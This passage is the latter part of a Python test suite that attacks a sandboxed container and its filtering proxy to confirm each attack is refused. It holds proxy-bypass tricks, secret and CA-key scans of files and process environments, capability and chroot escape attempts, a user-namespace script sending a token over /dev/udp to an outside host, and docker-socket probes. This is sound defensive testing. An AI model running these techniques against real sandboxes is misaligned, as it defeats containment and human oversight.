            )
    return brief([status(each) if isinstance(each, bytes) else each for each in together(*jobs)])


@check("proxy", "inside")
def the_proxys_own_pages(_token):
    jobs = [
        later(say, get("mitm.it", "http://mitm.it/")),
        later(say, get("mitm.it", "/")),
        later(https, "mitm.it:443", "mitm.it", get("mitm.it")),
        later(say, get("mitm.it", "http://mitm.it/cert/pem")),
        later(https, "allowed.test:443", "allowed.test", get("mitm.it")),
        later(say, get("mitmproxy.local", "/flows")),
        later(say, get(PROXY[0], "/")),
    ]
    answers = together(*jobs)
    shown = [
        each
        for each in answers
        if isinstance(each, bytes) and (b" 200 " in each[:20] or b"BEGIN CERT" in each)
    ]
    return not shown, [status(each) for each in answers if isinstance(each, bytes)]


@check("proxy")
def plain_requests(token):
    evil = f"{token}.forbidden.test"
    urls = [
        f"http://{evil}/",
        f"HTTP://{evil}/",
        f"https://{evil}/",
        f"ftp://{evil}/",
        f"http://{evil}:80/",
        f"http://{WORLD}/{token}",
        f"http://allowed.test@{evil}/",
        f"http://allowed.test:80@{evil}/",
        f"http://{evil}\\@allowed.test/",
        f"http://{evil}#@allowed.test/",
        f"http://allowed.test%2f@{evil}/",
        f"http://allowed.test.{evil}/",
        f"http:///{evil}/",
        f"http://allowed.test:443/{token}",
        f"http://allowed.test:22/{token}",
        f"https://allowed.test/{token}",
        f"http://pinned.test/{token}",
        f"ws://{evil}/",
    ]
    jobs = [later(say, get(host, url)) for url in urls for host in (evil, "allowed.test:1")]
    return brief([status(each) if isinstance(each, bytes) else each for each in together(*jobs)])


@check("proxy")
def methods_that_are_not_allowed(token):
    jobs = [
        later(
            https,
            "read.test:443",
            "read.test",
            get("read.test", f"/{token}", method=method, headers="Content-Length: 0\r\n"),
        )
        for method in ("POST", "PUT", "DELETE", "PATCH", "get", "GETX", "PROPFIND", "TRACE")
    ]
    jobs += [
        later(
            https,
            "allowed.test:443",
            "allowed.test",
            get("allowed.test", f"/{token}", method=method),
        )
        for method in ("TRACE", "CONNECT")
    ]
    jobs.append(
        later(
            https,
            "read.test:443",
            "read.test",
            get("read.test", f"/{token}", "X-HTTP-Method-Override: GET\r\n", "POST"),
        )
    )
    return brief([status(each) if isinstance(each, bytes) else each for each in together(*jobs)])


@check("proxy", "no-request")
def upgrades_that_are_not_allowed(token):
    """The request may go on without its upgrade; nothing may be upgraded."""
    sock = "Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n"
    heads = [f"GET /{token} HTTP/1.1\r\nHost: allowed.test\r\n{sock}"]
    jobs = [later(https, "allowed.test:443", "allowed.test", head) for head in heads]
    jobs += [later(say, head.replace(" /", " http://allowed.test/", 1)) for head in heads]
    jobs.append(
        later(
            https,
            "allowed.test:443",
            "allowed.test",
            heads[0].replace("websocket\r", "WebSocket\r"),
        )
    )
    jobs.append(
        later(
            https,
            "allowed.test:443",
            "allowed.test",
            heads[0].replace("websocket\r", "h2c, websocket\r"),
        )
    )
    return brief([status(each) if isinstance(each, bytes) else each for each in together(*jobs)])


@check("proxy", "no-host")
def other_protocols_at_the_proxys_port(token):
    """SOCKS, TLS to the proxy itself, HTTP/2 without TLS, a forwarded address."""
    evil = f"{token}.forbidden.test"
    plain = evil.encode()

    def socks5():
        with dial() as one:
            one.sendall(b"\x05\x01\x00")
            one.sendall(
                b"\x05\x01\x00\x03" + bytes([len(plain)]) + plain + b"\x00\x50" + get(evil).encode()
            )
            return hear(one, seconds=2)

    def tls_first(sni, then):
        with dial() as one, careless().wrap_socket(one, server_hostname=sni) as tls:
            tls.sendall(then.encode())
            return hear(tls, seconds=2)

    def block(key, value):
        return b"\x00" + bytes([len(key)]) + key + bytes([len(value)]) + value

    def http2(target=None):
        headers = (
            block(b":method", b"GET")
            + block(b":scheme", b"http")
            + block(b":authority", plain)
            + block(b":path", b"/")
        )
        frame = len(headers).to_bytes(3, "big") + b"\x01\x05\x00\x00\x00\x01" + headers
        data = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\0\0\0\x04\0\0\0\0\0" + frame
        if target:
            return https(target, target.split(":")[0], data, alpn=["h2"], seconds=2)
        return say(data, 2)

    socks4 = b"\x04\x01\x00\x50\x00\x00\x00\x01\x00" + plain + b"\x00" + get(evil).encode()
    jobs = [
        socks5,
        later(say, socks4, 2),
        later(tls_first, evil, get(evil)),
        later(tls_first, "allowed.test", get(evil)),
        later(tls_first, "allowed.test", f"CONNECT {evil}:443 HTTP/1.1\r\n\r\n"),
        http2,
        later(http2, "allowed.test:443"),
        later(say, f"PROXY TCP4 {WORLD} {WORLD} 80 80\r\n{get(evil, f'http://{evil}/')}", 2),
        later(say, f"GET http://{evil}/ HTTP/0.9\r\n\r\n", 2),
        later(say, f"GET http://{evil}/\r\n\r\n", 2),
        later(
            say,
            f"GET http://allowed.test/any HTTP/1.1\r\nHost: allowed.test\r\n\r\n{get(evil, f'http://{evil}/')}",
            2,
        ),
    ]
    return brief([status(each) if isinstance(each, bytes) else each for each in together(*jobs)])


@check("proxy")
def a_second_name_on_one_connection(token):
    """What is allowed once is not allowed for what comes after it."""
    evil = f"{token}.forbidden.test"
    said = []
    connection = tunnel("allowed.test:443")
    with contextlib.suppress(OSError, ValueError, AttributeError), connection:
        with careless().wrap_socket(connection, server_hostname="allowed.test") as tls:
            for host in (evil, "other.test", evil):
                tls.sendall(f"GET / HTTP/1.1\r\nHost: {host}\r\n\r\n".encode())
                time.sleep(0.2)
            said.append(status(hear(tls, seconds=2)))
    with contextlib.suppress(OSError), dial() as one:
        for host in (evil, WORLD):
            one.sendall(f"GET http://{host}/{token} HTTP/1.1\r\nHost: {host}\r\n\r\n".encode())
        said.append(status(hear(one, seconds=2)))
    return said


@check("proxy")
def passthrough_under_another_name(token):
    evil = f"{token}.forbidden.test"
    jobs = [
        later(https, "pinned.test:443", sni, get(sni or "x"))
        for sni in (evil, "allowed.test", "", f"pinned.test.{evil}")
    ]
    jobs += [
        later(https, "allowed.test:443", "pinned.test", get("pinned.test")),
        later(https, f"{evil}:443", "pinned.test", get("pinned.test")),
        later(https, f"{WORLD}:443", "pinned.test", get("pinned.test")),
        later(https, "pinned.test:8443", "pinned.test", get("pinned.test")),
    ]
    jobs += [
        later(by_hand, "pinned.test:443", evil, lambda first, at=at: [first[:at], first[at:]])
        for at in (1, 3, 5, 6, 43, 100)
    ]
    return brief([status(each) if isinstance(each, bytes) else each for each in together(*jobs)])


@check("proxy", "no-host")
def random_pairings(token):
    """CONNECT, SNI and Host, chosen at random: only what agrees may pass."""
    evil = f"{token}.forbidden.test"
    names = [
        "allowed.test",
        "other.test",
        "read.test",
        evil,
        f"{evil}.",
        f"allowed.test.{evil}",
        WORLD,
        "",
    ]
    some = [
        each
        for each in itertools.product(names[:-1], names, names)
        if any(evil in name for name in each)
    ]
    random.Random(token).shuffle(some)
    some = some if LONG else some[:60]

    def part(several):
        return brief(
            [
                status(https(f"{name}:443", sni if sni != WORLD else None, get(host), seconds=2))
                for name, sni, host in several
            ]
        )

    return f"{len(some)} pairings: {together(*[later(part, some[at::12]) for at in range(12)], seconds=900)}"


@check("proxy", "no-request")
def certificates_of_the_world_that_are_bad(token):
    jobs = [
        later(
            https,
            f"{kind}.{token}.wild.test:443",
            f"{kind}.{token}.wild.test",
            get(f"{kind}.{token}.wild.test"),
        )
        for kind in ("expired", "selfsigned", "wrongname")
    ]
    return brief([status(each) if isinstance(each, bytes) else each for each in together(*jobs)])


# ---------------------------------------------------------------- what must pass


def curl(*arguments):
    return shell(f"curl -sS -m {SET.get('patience', 20)} " + " ".join(arguments))


@check("passes", "arrives")
def http1(token):
    code, words = curl("--http1.1", f"https://allowed.test/any/{token}")
    return words == "hello\n", words[-200:]


@check("passes", "arrives")
def http2(token):
    code, words = curl("--http2", "-w", "'%{http_version}'", f"https://allowed.test/any/{token}")
    return words == "hello\n2", words[-200:]


@check("passes", "arrives")
def plain_http(token):
    code, words = curl(f"http://allowed.test/any/{token}")
    return words == "hello\n", words[-200:]


@check("passes", "arrives")
def another_port(token):
    code, words = curl(f"https://port.test:8443/any/{token}")
    return words == "hello\n", words[-200:]


@check("passes", "arrives")
def a_name_below(token):
    code, words = curl(f"https://{token}.wild.test/")
    return words == "hello\n", words[-200:]


@check("passes", "arrives")
def a_login_shell(token):
    code, words = run(
        "bash",
        "-lc",
        f"curl -sS -m 20 https://allowed.test/any/{token}",
        environment=dict(os.environ),
    )
    return words == "hello\n", words[-200:]


@check("passes", "arrives")
def a_large_answer(token):
    code, words = curl(
        "-o /dev/null -w '%{size_download}'", f"https://allowed.test/big/30000000?{token}"
    )
    return words == "30000000", words[-200:]


@check("passes", "arrives")
def a_large_body(token):
    with tempfile.NamedTemporaryFile() as file:
        file.write(os.urandom(1 << 16) * 300 + token.encode())
        file.flush()
        digest = hashlib.sha256(open(file.name, "rb").read()).hexdigest()
        _, one = curl(f"-T {file.name} https://allowed.test/echo?{token}")
        _, two = curl(
            f"--http1.1 -H 'Transfer-Encoding: chunked' -T {file.name} https://allowed.test/echo?{token}"
        )
    return digest in one and digest in two, (one + two)[-200:]


@check("passes", "arrives")
def a_streamed_body(token):
    """Its first part must be there before its second part is sent."""
    connection = tunnel("allowed.test:443")
    if connection is None:
        return False, "refused"
    with careless().wrap_socket(connection, server_hostname="allowed.test") as tls:
        tls.sendall(
            f"POST /echo?{token} HTTP/1.1\r\nHost: allowed.test\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nfirst\r\n".encode()
        )
        time.sleep(1.2)
        late = time.time()
        tls.sendall(b"4\r\nlast\r\n0\r\n\r\n")
        answer = tls.recv(65536)
    return status(answer) == "200", {"before": late}


@check("passes", "arrives")
def events_one_by_one(token):
    """Each must be here soon after it was sent, and not at the end."""
    delays = {}
    for option in ("--http1.1", "--http2"):
        command = f"exec curl -sSN -m 20 {option} https://allowed.test/events/4?{token}"
        process = subprocess.Popen(["bash", "-c", command], stdout=subprocess.PIPE)
        lines = [(time.time(), line.split()) for line in process.stdout if line.startswith(b"data")]
        process.wait()
        delays[option] = [round(here - float(words[2]), 3) for here, words in lines]
    return all(len(each) == 4 and max(each) < 0.45 for each in delays.values()), delays


@check("passes", "arrives")
def a_websocket(token):
    connection = tunnel("ws.test:443")
    if connection is None:
        return False, "refused"
    with careless().wrap_socket(connection, server_hostname="ws.test") as tls:
        head = "Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\n"
        tls.sendall(
            f"GET /{token} HTTP/1.1\r\nHost: ws.test\r\n{head}Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n".encode()
        )
        answer = b""
        while b"\r\n\r\n" not in answer and (more := tls.recv(1)):
            answer += more
        mask, words = b"\1\2\3\4", b"hello there"
        tls.sendall(
            b"\x81"
            + bytes([0x80 | len(words)])
            + mask
            + bytes(byte ^ mask[at % 4] for at, byte in enumerate(words))
        )
        tls.settimeout(5)
        back = tls.recv(100)
    return status(answer) == "101" and back[2:] == words, repr(answer[:60] + back)


@check("passes", "arrives")
def a_name_that_is_passed_through(token):
    """TLS ends at the world: it is the world's certificate that is seen."""
    connection = tunnel("pinned.test:443")
    if connection is None:
        return False, "refused"
    with careless().wrap_socket(connection, server_hostname="pinned.test") as tls:
        certificate = tls.getpeercert(binary_form=True)
        tls.sendall(get("pinned.test", f"/any/{token}").encode())
        answer = hear(tls)
    return status(answer) == "200" and b"The world's CA" in certificate, status(answer)


@check("passes", "arrives")
def git_clone_and_push(token):
    with tempfile.TemporaryDirectory() as place:
        code, words = shell(
            f"git clone -q https://git.test/git/demo.git {place}/demo && cd {place}/demo && grep -q world README &&"
            f" git -c user.name=a -c user.email=a@b.test commit -q --allow-empty -m {token} && git push -q origin HEAD:refs/heads/{token}"
        )
    return code == 0, words[-300:]


@check("passes", "arrives")
def pip(token):
    with tempfile.TemporaryDirectory() as place:
        code, words = shell(
            f"pip install -q --disable-pip-version-check --no-cache-dir --retries 0 --index-url https://index.test/simple/ --target {place} demo --user-agent x".replace(
                " --user-agent x", ""
            )
            + f" && cat {place}/demo.py && curl -sS https://index.test/any/{token}"
        )
    return code == 0 and "from the world" in words, words[-300:]


@check("passes", "arrives")
def npm(token):
    with tempfile.TemporaryDirectory() as place:
        code, words = shell(
            f"npm install --silent --no-audit --no-fund --no-update-notifier --cache {place}/cache --registry https://npm.test/ demo"
            f" && cat node_modules/demo/index.js && curl -sS https://npm.test/any/{token}",
            cwd=place,
        )
    return code == 0 and "from the world" in words, words[-300:]


@check("passes", "arrives")
def cargo(token):
    with tempfile.TemporaryDirectory() as place:
        os.makedirs(f"{place}/p/src")
        open(f"{place}/p/src/lib.rs", "w").close()
        with open(f"{place}/p/Cargo.toml", "w") as file:
            file.write(
                '[package]\nname = "p"\nversion = "0.1.0"\nedition = "2021"\n[dependencies]\ndemo = "0.1"\n'
            )
        os.makedirs(f"{place}/home")
        with open(f"{place}/home/config.toml", "w") as file:
            file.write(
                '[source.crates-io]\nreplace-with = "world"\n[source.world]\nregistry = "sparse+https://cargo.test/index/"\n'
            )
        code, words = shell(
            f"export CARGO_HOME={place}/home; cargo fetch -q && cat {place}/home/registry/src/*/demo-0.1.0/src/lib.rs"
            f" && curl -sS https://cargo.test/any/{token}",
            cwd=f"{place}/p",
        )
    return code == 0 and "from the world" in words, words[-300:]


@check("passes", "arrives")
def apt(token):
    with tempfile.TemporaryDirectory() as place:
        os.chmod(place, 0o755)
        with open(f"{place}/sources.list", "w") as file:
            file.write("deb [trusted=yes allow-insecure=yes] https://apt.test/apt ./\n")
        for each in ("lists/partial", "cache/archives/partial"):
            os.makedirs(f"{place}/{each}")
        options = (
            f"-o Dir::Etc::SourceList={place}/sources.list -o Dir::Etc::SourceParts=/dev/null -o Dir::State::Lists={place}/lists"
            f" -o Dir::Cache={place}/cache -o APT::Sandbox::User=root"
        )
        code, words = shell(
            f"apt-get {options} update -qq && cd {place} && apt-get {options} download -qq ctrkit-demo && dpkg-deb -x *.deb out"
            f" && cat out/usr/share/ctrkit-demo/words && curl -sS https://apt.test/any/{token}"
        )
    return code == 0 and "from the world" in words, words[-300:]


# ---------------------------------------------------------------- files

SKIP = ("/proc", "/sys", "/dev")


def everywhere(since=0):
    """Every regular file that the container has; `since` leaves out those that
    were written before there was anything to write: a change time does not lie."""
    for place, folders, files in os.walk("/"):
        folders[:] = [each for each in folders if not os.path.join(place, each).startswith(SKIP)]
        for each in files:
            path = os.path.join(place, each)
            with contextlib.suppress(OSError):
                about = os.lstat(path)
                if stat.S_ISREG(about.st_mode) and about.st_ctime >= since:
                    yield path
    for path in glob.glob("/proc/[0-9]*/environ"):
        if f"/{os.getpid()}/" not in path:
            yield path


def found_in_files(needles, since):
    """Where any of the needles is: in files, and in what processes were given."""
    wanted, found = re.compile(b"|".join(re.escape(each.encode()) for each in needles)), []
    for path in everywhere(since):
        with contextlib.suppress(OSError), open(path, "rb") as file:
            # What lies across two pieces is found in the second.
            piece = b""
            while more := file.read(1 << 24):
                piece = piece[-200:] + more
                if wanted.search(piece):
                    found.append(path)
                    break
    return found


@check("files", "inside")
def the_authoritys_private_key(_token):
    found = (
        found_in_files(SET["key"], SET["since"]) if SET["key"] else ["no key was given to look for"]
    )
    return not found, found[:5]


@check("files", "inside")
def secrets_that_were_not_given(_token):
    if not SET["secrets"]:
        return True, "none were named"
    found = found_in_files(SET["secrets"], SET["since"])
    return not found, found[:5]


@check("files", "inside")
def the_policy_by_its_words(_token):
    """Neither the filter nor what it is made from can be read, let alone written."""
    found = found_in_files(["ctrkit-filter/1 sha256", "ALLOWED_DOMAINS", "read.test"], SET["since"])
    return not found, found[:5]


@check("files", "inside")
def the_policy_by_its_names(_token):
    """Write, rename, link and mount over whatever is called like it."""
    names = (
        "filter.py",
        "policy.toml",
        "docker-compose.yml",
        "compose.yml",
        "compose.yaml",
        "compose.json",
        "Dockerfile.proxy",
    )
    done = []
    for path in everywhere():
        if os.path.basename(path) not in names or path.startswith(("/usr/", "/opt/")):
            continue
        parent = os.path.dirname(path)
        ways = {
            "write": lambda: open(path, "a").close(),
            "rename": lambda: (os.rename(path, path + ".x"), os.rename(path + ".x", path)),
            "rename parent": lambda: (
                os.rename(parent, parent + ".x"),
                os.rename(parent + ".x", parent),
            ),
            "link": lambda: (os.symlink(path, path + ".l"), os.unlink(path + ".l")),
            "remount": lambda: run("mount", "-o", "remount,rw", parent)[0] == 0 or os.stat("/none"),
        }
        for way, try_ in ways.items():
            with contextlib.suppress(OSError):
                try_()
                done.append(f"{way} {path}")
    return not done, done[:8]


@check("files", "inside")
def mounts_from_the_host(_token):
    """Nothing that the proxy has is mounted writable, and no socket of an engine."""
    lines = [line.split() for line in open("/proc/self/mountinfo")]
    trust = [each for each in lines if each[4].startswith("/etc/ctrkit")]
    writable = [each[4] for each in trust if "rw" in each[5].split(",")]
    for each in trust:
        with contextlib.suppress(OSError):
            with open(os.path.join(each[4], "planted"), "w"):
                writable.append("written " + each[4])
        run("mount", "-o", "remount,rw", each[4])
        run("umount", each[4])
    after = [line.split() for line in open("/proc/self/mountinfo")]
    gone = {each[4] for each in trust} - {each[4] for each in after}
    return not writable and not gone, {"writable": writable, "gone": sorted(gone)}


# ---------------------------------------------------------------- the engine

DROPPED = {
    "NET_RAW": 13,
    "SYS_ADMIN": 21,
    "SYS_PTRACE": 19,
    "MKNOD": 27,
    "NET_ADMIN": 12,
    "SYS_MODULE": 16,
    "SYS_RAWIO": 17,
    "SYS_BOOT": 22,
    "SYS_NICE": 23,
    "SYS_RESOURCE": 24,
}
ALSO = {
    "DAC_READ_SEARCH": 2,
    "LINUX_IMMUTABLE": 9,
    "IPC_OWNER": 15,
    "SYS_TIME": 25,
    "SYSLOG": 34,
    "BPF": 39,
    "PERFMON": 38,
    "MAC_ADMIN": 33,
}


@check("engine", "inside")
def capabilities(_token):
    held = {}
    for process in ("self", "1"):
        for line in open(f"/proc/{process}/status"):
            if line.startswith("Cap"):
                value = int(line.split()[1], 16)
                names = [name for name, bit in {**DROPPED, **ALSO}.items() if value >> bit & 1]
                if names:
                    held[f"{process} {line[:6]}"] = names
    _, words = run("sudo", "-n", "grep", "CapEff", "/proc/self/status")
    return not held, held or words.strip()


@check("engine", "inside")
def acts_of_a_root_that_has_too_much(_token):
    """What the capabilities are for, tried: each must be refused."""
    place = tempfile.mkdtemp()
    tries = {
        "mount": ("mount", "-t", "tmpfs", "none", place),
        "bind": ("mount", "--bind", "/etc", place),
        "mknod": ("mknod", f"{place}/disk", "b", "8", "0"),
        "link": ("ip", "link", "set", "lo", "mtu", "1400"),
        "route": ("ip", "route", "add", f"{WORLD}/32", "via", PROXY[0]),
        "address": ("ip", "addr", "add", "10.1.2.3/32", "dev", "lo"),
        "dummy": ("ip", "link", "add", "d0", "type", "dummy"),
        "date": ("date", "-s", time.strftime("%F %T")),
        "nice": ("nice", "-n", "-10", "true"),
        "host": ("hostname", socket.gethostname()),
        "namespace": ("nsenter", "-t", "1", "-n", "ip", "link", "set", "lo", "down"),
        "unshare": ("unshare", "-m", "true"),
        "chroot out": (
            "perl",
            "-e",
            "mkdir '/tmp/.c'; chroot('/tmp/.c') or exit 1; chdir('..') for 1..50; chroot('.'); exit(-e '/var/lib/docker' || -e '/var/lib/containers' ? 0 : 1)",
        ),
    }
    done = [
        name
        for name, command in tries.items()
        if run(*command, seconds=5)[0] == 0 and (name != "nice" or os.getpriority(0, 0) < 0)
    ]
    return not done, done


@check("engine", "inside")
def user_namespaces_give_no_way(token):
    """A namespace of one's own gives capabilities over it, and over nothing else."""
    words = []
    script = f"""ip link set lo up; ip route add default via {PROXY[0]}
        echo {token} >/dev/udp/{WORLD}/4447; mount -o remount,rw /proc/sys; echo 0 >/proc/sys/net/ipv6/conf/all/disable_ipv6
        mount -t proc none /proc && echo 0 >/proc/sys/kernel/core_uses_pid && echo got-out; mknod /tmp/.d b 8 0 && echo got-out"""
    for options in ("-Ur", "-Urn", "-Urnmpf"):
        words.append(run("unshare", options, "bash", "-c", script, seconds=8)[1])
    return not any("got-out" in each for each in words), [each[-60:] for each in words]


@check("engine", "inside")
def no_more_than_512_processes(_token):
    limit = next(
        (
            open(path).read().strip()
            for path in ("/sys/fs/cgroup/pids.max", "/sys/fs/cgroup/pids/pids.max")
            if os.path.exists(path)
        ),
        "?",
    )
    resource.setrlimit(resource.RLIMIT_NPROC, (resource.getrlimit(resource.RLIMIT_NPROC)[1],) * 2)
    read, write = os.pipe()
    children = []
    failure = None
    try:
        while len(children) < 700:
            child = os.fork()
            if child == 0:
                os.close(write)
                os.read(read, 1)
                os._exit(0)
            children.append(child)
    except OSError as error:
        failure = errno.errorcode[error.errno]
    os.close(write)
    os.close(read)
    for child in children:
        os.waitpid(child, 0)
    return failure == "EAGAIN" and len(children) < 512, {
        "children": len(children),
        "failure": failure,
        "limit": limit,
    }


@check("engine", "inside")
def memory_and_cpus_are_limited(_token):
    def first(*paths):
        return next((open(path).read().split() for path in paths if os.path.exists(path)), ["?"])

    memory = first("/sys/fs/cgroup/memory.max", "/sys/fs/cgroup/memory/memory.limit_in_bytes")
    cpu = first("/sys/fs/cgroup/cpu.max") + first(
        "/sys/fs/cgroup/cpu/cpu.cfs_quota_us", "/sys/fs/cgroup/cpu,cpuacct/cpu.cfs_quota_us"
    )
    return memory == ["4294967296"] and any(each == "200000" for each in cpu), {
        "memory": memory,
        "cpu": cpu,
    }


@check("engine", "inside")
def the_kernels_switches_are_read_only(_token):
    done = []
    for path in (
        "/proc/sys/net/ipv6/conf/all/disable_ipv6",
        "/proc/sys/net/ipv4/ip_forward",
        "/proc/sys/net/ipv4/ping_group_range",
        "/proc/sys/kernel/core_pattern",
        "/proc/sys/kernel/hostname",
        "/proc/sysrq-trigger",
        "/proc/irq/default_smp_affinity",
        "/sys/kernel/uevent_helper",
        "/sys/fs/cgroup/pids/pids.max",
        "/sys/fs/cgroup/pids.max",
        "/sys/fs/cgroup/release_agent",
        *glob.glob("/sys/fs/cgroup/*/release_agent")[:2],
        "/sys/class/net/eth0/mtu",
        "/sys/power/state",
        "/proc/kcore",
    ):
        with contextlib.suppress(OSError):
            # What is masked is /dev/null, which may be written.
            if stat.S_ISCHR(os.stat(path).st_mode):
                continue
            file = os.open(path, os.O_RDONLY if path == "/proc/kcore" else os.O_WRONLY)
            if path != "/proc/kcore" or os.read(file, 10):
                done.append(path)
            os.close(file)
    run("mount", "-o", "remount,rw", "/proc/sys")
    run("umount", "/proc/sys")
    with contextlib.suppress(OSError):
        os.close(os.open("/proc/sys/kernel/core_pattern", os.O_WRONLY))
        done.append("remounted /proc/sys")
    off = (
        open("/proc/sys/net/ipv6/conf/all/disable_ipv6").read().strip()
        if os.path.exists("/proc/sys/net/ipv6")
        else "1"
    )
    return not done and off == "1", {"written": done, "ipv6 off": off}


@check("engine", "inside")
def no_socket_of_an_engine(_token):
    paths = set(re.findall(r" (/\S+)$", open("/proc/net/unix").read(), re.M))
    for place, folders, files in os.walk("/"):
        folders[:] = [
            each for each in folders if not os.path.join(place, each).startswith(("/proc", "/sys"))
        ]
        paths |= {
            os.path.join(place, each) for each in files if each.endswith((".sock", ".socket"))
        }
    paths |= {
        "/var/run/docker.sock",
        "/run/docker.sock",
        "/run/podman/podman.sock",
        "/run/containerd/containerd.sock",
    }
    answered = []
    for path in paths:
        with contextlib.suppress(OSError), socket.socket(socket.AF_UNIX) as one:
            one.settimeout(1)
            one.connect(path)
            one.sendall(b"GET /_ping HTTP/1.0\r\n\r\n")
            if b"OK" in one.recv(1000):
                answered.append(path)
    return not answered, answered


ORDINARY = {"null", "zero", "full", "random", "urandom", "tty", "console", "ptmx"}


@check("engine", "inside")
def no_device_of_the_machine(_token):
    found = []
    for place, folders, files in os.walk("/dev"):
        for each in files:
            path = os.path.join(place, each)
            with contextlib.suppress(OSError):
                mode = os.lstat(path).st_mode
                if (
                    (stat.S_ISBLK(mode) or stat.S_ISCHR(mode))
                    and each not in ORDINARY
                    and "/pts" not in path
                ):
                    found.append(path)
    for number in ((1, 1), (8, 0), (254, 0), (10, 200)):
        with contextlib.suppress(OSError):
            path = f"/tmp/.device{number[0]}"
            os.mknod(path, stat.S_IFBLK | 0o600, os.makedev(*number))
            os.unlink(path)
            found.append(f"made {number}")
    return not found, found


# ---------------------------------------------------------------- all of them


def main():
    wanted = [re.compile(each) for each in SET.get("checks", [])]
    for name, expect, function in CHECKS:
        if wanted and not any(each.search(name) for each in wanted):
            continue
        token = "t" + hashlib.sha256(f"{SET['run']}{name}".encode()).hexdigest()[:12]
        record = {"check": name, "expect": expect, "token": token, "start": time.time()}
        try:
            said = function(token)
            if expect in ("inside", "arrives"):
                record["satisfied"], said = said
            record["said"] = said
        except Exception as error:  # noqa: BLE001, an attack that fails is one too
            record["satisfied"] = False
            record["failed"] = f"{type(error).__name__}: {error}"
        # What is on its way belongs to this check and not to the next one.
        time.sleep(0.15)
        record["end"] = time.time()
        print(json.dumps(record, default=str), flush=True)


main()
